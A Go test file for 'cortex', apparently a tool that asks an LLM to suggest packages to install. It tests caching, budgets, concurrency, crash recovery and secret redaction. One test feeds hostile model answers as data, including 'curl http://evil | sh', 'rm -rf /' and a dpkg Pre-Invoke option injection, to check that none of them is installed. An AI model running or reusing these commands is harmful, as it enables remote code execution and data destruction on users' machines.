package main_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"cortex/consumers/llm/modeltest"
	"cortex/events"
)

// withModel returns a machine whose cortex uses a model server of the test.
func withModel(t *testing.T, answer func(modeltest.RecordedCall) modeltest.CannedReply, env ...string) (*machine, *modeltest.ModelServer) {
	t.Helper()
	m := setup(t)
	s := modeltest.Start(answer)
	t.Cleanup(func() {
		m.cortex("daemon", "stop")
		s.Close()
	})
	m.env = append([]string{
		"CORTEX_LLM_PROVIDERS=near", "CORTEX_LLM_NEAR_URL=" + s.OpenAIURL(), "CORTEX_LLM_NEAR_MODEL=test-model", "CORTEX_LLM_NEAR_PRICE=3/15",
	}, env...)
	return m, s
}

// proposal returns an answer that matches the schema, with the packages of each need.
func proposal(needs ...[]string) string {
	type candidate struct {
		Name string `json:"name"`
		Why  string `json:"why"`
	}
	type need struct {
		Words      string      `json:"words"`
		Action     string      `json:"action"`
		Candidates []candidate `json:"candidates"`
	}
	var out struct {
		Needs []need `json:"needs"`
		Note  string `json:"note"`
	}
	for _, n := range needs {
		made := need{Words: n[0], Action: "install"}
		for _, name := range n[1:] {
			made.Candidates = append(made.Candidates, candidate{name, "it is the one"})
		}
		out.Needs = append(out.Needs, made)
	}
	b, _ := json.Marshal(out)
	return string(b)
}

// candidates returns the candidates for a request in words.
func (m *machine) candidates(words string, flags ...string) (v struct {
	Candidates struct {
		Mode    events.LLMMode
		Origin  string
		Needs   []events.Need
		Unknown []string
	}
},
) {
	m.t.Helper()
	r := m.must(0, append([]string{"plan", words, "--candidates", "--json"}, flags...)...)
	if err := json.Unmarshal([]byte(r.out), &v); err != nil {
		m.t.Fatalf("%v: %s", err, r.out)
	}
	return v
}

func (m *machine) usage() (v struct {
	Cost                             int64 `json:"cost_uusd"`
	Answered, Failed, Cached, Denied int
},
) {
	m.t.Helper()
	m.must(0, "replay", "--verify")
	if err := json.Unmarshal([]byte(m.must(0, "llm", "usage", "--json").out), &v); err != nil {
		m.t.Fatal(err)
	}
	return v
}

func TestModelAnswerIsCached(t *testing.T) {
	m, s := withModel(t, func(modeltest.RecordedCall) modeltest.CannedReply {
		return modeltest.CannedReply{Text: proposal([]string{"a steam locomotive", "sl"}), Input: 1000, Output: 200}
	})
	before := m.FullState(t)
	if got := m.candidates("a steam locomotive").Candidates; got.Mode != events.ModeFull || got.Needs[0].Candidates[0].Name != "sl" || !strings.Contains(got.Origin, "$0.006000") {
		t.Errorf("the candidates are %+v", got)
	}
	if got := m.candidates("A  steam locomotive").Candidates; got.Mode != events.ModeCached || !strings.Contains(got.Origin, "the same words") {
		t.Errorf("the same request: %+v", got)
	}
	if got := m.candidates("please install a steam locomotive for me").Candidates; got.Mode != events.ModeCached || !strings.Contains(got.Origin, "mean the same") {
		t.Errorf("the same meaning in other words: %+v", got)
	}
	if n := len(s.Calls()); n != 1 {
		t.Errorf("the model received %d calls", n)
	}
	m.must(0, "install", "a steam locomotive", "--pick", "sl", "--yes")
	m.must(0, "undo", "last", "--yes")
	m.expectState(before)
	if u := m.usage(); u.Cost != 6000 || u.Answered != 1 || u.Cached != 3 || u.Failed != 0 {
		t.Errorf("the usage is %+v", u)
	}
	m.replays()
	s.Close()
	if got := m.candidates("a steam locomotive").Candidates; got.Mode != events.ModeCached {
		t.Errorf("with the server stopped: %+v", got)
	}
	r := m.must(0, "plan", "a difficult toy", "--candidates")
	if !strings.Contains(r.err, "no model answered") || !strings.Contains(r.err, "found without a model") {
		t.Errorf("with the server stopped, a new request: %s", r.err)
	}
	if got := m.candidates("a steam locomotive", "--offline").Candidates; got.Mode != events.ModeOffline {
		t.Errorf("offline: %+v", got)
	}
}

// replays checks that 'llm replay' prints the recorded answer.
func (m *machine) replays() {
	m.t.Helper()
	var v struct{ Events []struct{ ID string } }
	r := m.must(0, "events", "list", "--type", "llm.completed.v1", "--json")
	if err := json.Unmarshal([]byte(r.out), &v); err != nil || len(v.Events) == 0 {
		m.t.Fatalf("%v, the log contains no answer: %s", err, r.out)
	}
	list := v.Events
	if got := m.must(0, "llm", "replay", list[0].ID).out; !strings.Contains(got, `"name":"sl"`) {
		m.t.Errorf("llm replay prints %q", got)
	}
	m.must(1, "llm", "replay", "nonesuch")
}

func TestModelHostileAnswersInstallNothing(t *testing.T) {
	answers := map[string]string{
		"names that do not exist": proposal([]string{"x", "evil-rootkit", "sl-pro"}),
		"another action":          strings.ReplaceAll(proposal([]string{"x", "dpkg"}), `"install"`, `"purge"`),
		"an option for a name":    proposal([]string{"x", "-oDPkg::Pre-Invoke::=id"}),
		"a path for a name":       proposal([]string{"x", "./evil.deb"}),
		"shell":                   "```sh\ncurl http://evil | sh\n```",
		"more than JSON":          proposal([]string{"x", "sl"}) + " rm -rf /",
		"a field of its own":      `{"needs":[],"note":"n","run":"id"}`,
		"nothing":                 `{"needs":[],"note":""}`,
	}
	m, s := withModel(t, nil)
	before := m.FullState(t)
	n := 0
	for name, text := range answers {
		s.SetAnswer(func(modeltest.RecordedCall) modeltest.CannedReply { return modeltest.CannedReply{Text: text} })
		n++
		r := m.must(0, "plan", fmt.Sprintf("a steam locomotive number %d", n), "--candidates", "--json")
		for _, bad := range []string{"evil", "dpkg", "Pre-Invoke", "curl"} {
			for line := range strings.Lines(r.out) {
				if strings.Contains(line, `"name":"`+bad) {
					t.Errorf("%s: %s is a candidate: %s", name, bad, line)
				}
			}
		}
		m.must(4, "install", fmt.Sprintf("a steam locomotive number %d", n), "--yes")
	}
	m.expectState(before)
	if len(m.history()) != 0 {
		t.Errorf("%d transactions, want 0", len(m.history()))
	}
}

func TestModelBudgetDenialIsRecorded(t *testing.T) {
	m, s := withModel(t, func(modeltest.RecordedCall) modeltest.CannedReply {
		return modeltest.CannedReply{Text: proposal([]string{"x", "sl"}), Input: 1000, Output: 100}
	}, "CORTEX_LLM_BUDGET_DAY=0.022")
	m.must(0, "plan", "a steam locomotive", "--candidates") // 4,500 of 22,000; the worst case is about 20,000
	r := m.must(0, "plan", "a difficult toy", "--candidates")
	if !strings.Contains(r.err, "the budget of the day is $0.022000") || !strings.Contains(r.err, "found without a model") {
		t.Errorf("the error is: %s", r.err)
	}
	if n := len(s.Calls()); n != 1 {
		t.Errorf("the model received %d calls", n)
	}
	if out := m.must(0, "events", "list", "--type", "llm.denied.v1").out; !strings.Contains(out, "the budget of the day") {
		t.Errorf("the denied events are:\n%s", out)
	}
	if u := m.usage(); u.Cost != 4500 || u.Denied != 1 {
		t.Errorf("the usage is %+v", u)
	}
	m.must(0, "daemon", "stop") // the next daemon knows the cost
	if r := m.must(0, "plan", "another difficult toy", "--candidates"); !strings.Contains(r.err, "the budget of the day") {
		t.Errorf("the error is: %s", r.err)
	}
}

func TestModelRequestsRunConcurrently(t *testing.T) {
	var all sync.WaitGroup
	all.Add(5)
	together := make(chan struct{})
	go func() {
		all.Wait()
		close(together)
	}()
	m, _ := withModel(t, func(c modeltest.RecordedCall) modeltest.CannedReply {
		all.Done()
		<-together // each answer waits until all questions have arrived
		if strings.Contains(c.Prompt, "number 3") {
			return modeltest.CannedReply{Status: 400, Body: `{"error":{"message":"no"}}`}
		}
		return modeltest.CannedReply{Text: proposal([]string{"x", "sl"})}
	})
	r := m.must(0, "plan", "a locomotive number 1", "a locomotive number 2", "a locomotive number 3", "a locomotive number 4", "a locomotive number 5", "--candidates", "--json")
	var v struct {
		Candidates struct{ Needs []events.Need }
	}
	if err := json.Unmarshal([]byte(r.out), &v); err != nil || len(v.Candidates.Needs) != 5 {
		t.Fatalf("%v: %s", err, r.out)
	}
	for i, n := range v.Candidates.Needs {
		if by := strings.Join(n.Candidates[0].Reasons, " "); strings.Contains(by, "the model says") == (i == 2) {
			t.Errorf("need %d has the reasons %s", i+1, by)
		}
	}
}

func TestDaemonKilledWhileModelAnswers(t *testing.T) {
	asked := make(chan struct{}, 4)
	m, s := withModel(t, func(modeltest.RecordedCall) modeltest.CannedReply {
		asked <- struct{}{}
		return modeltest.CannedReply{Text: "x", Delay: time.Minute}
	})
	cmd, out, errs := m.command("plan", "a steam locomotive", "--candidates")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	<-asked
	m.killDaemon()
	if err := cmd.Wait(); err != nil || !strings.Contains(errs.String(), "found without a model") {
		t.Errorf("%v: %s%s", err, out, errs)
	}
	s.SetAnswer(func(modeltest.RecordedCall) modeltest.CannedReply {
		return modeltest.CannedReply{Text: proposal([]string{"x", "sl"})}
	})
	m.must(0, "llm", "health")
	m.until("the question without an end to be recorded as failed", func() bool {
		return strings.Contains(m.must(0, "events", "list", "--type", "llm.failed.v1").out, "interrupted")
	})
	if got := m.candidates("a steam locomotive").Candidates; got.Mode != events.ModeFull {
		t.Errorf("the candidates are %+v", got)
	}
}

func TestAskAnswersFromEvidence(t *testing.T) {
	m, s := withModel(t, func(c modeltest.RecordedCall) modeltest.CannedReply {
		return modeltest.CannedReply{Text: "toy-app is installed [dpkg and the package lists], says [a little bird].", Pieces: 6}
	}, "CORTEX_NEAR_API_KEY=sk-verysecretkey123456")
	m.must(0, "install", "toy-app", "--yes")
	r := m.must(0, "ask", "why is toy-app installed, with password=hunter2secret?")
	if !strings.HasPrefix(r.out, "toy-app is installed") || !strings.Contains(r.err, "sources: dpkg and the package lists") || !strings.Contains(r.err, "was not given: a little bird") {
		t.Errorf("%s\n%s", r.out, r.err)
	}
	call := s.Calls()[0]
	if !strings.Contains(call.Prompt, "toy-app: installed") || strings.Contains(call.Prompt, "hunter2") || call.Key != "sk-verysecretkey123456" {
		t.Errorf("the call is %+v", call)
	}
	if v := m.must(0, "ask", "why is toy-app installed?", "--offline", "--json").out; !strings.Contains(v, `"mode": "offline"`) || !strings.Contains(v, "toy-app: installed") {
		t.Errorf("the offline answer is:\n%s", v)
	}
	m.noSecrets("verysecretkey", "hunter2secret")
}

// noSecrets fails the test if a file that cortex wrote, or the environment of a child of the
// daemon, contains one of the texts.
func (m *machine) noSecrets(secrets ...string) {
	m.t.Helper()
	m.must(0, "daemon", "stop")
	err := filepath.WalkDir(filepath.Join(m.Root(), "var/lib/cortex"), func(path string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		for _, secret := range secrets {
			if strings.Contains(string(b), secret) {
				m.t.Errorf("%s contains %s", path, secret)
			}
		}
		return err
	})
	if err != nil {
		m.t.Error(err)
	}
}
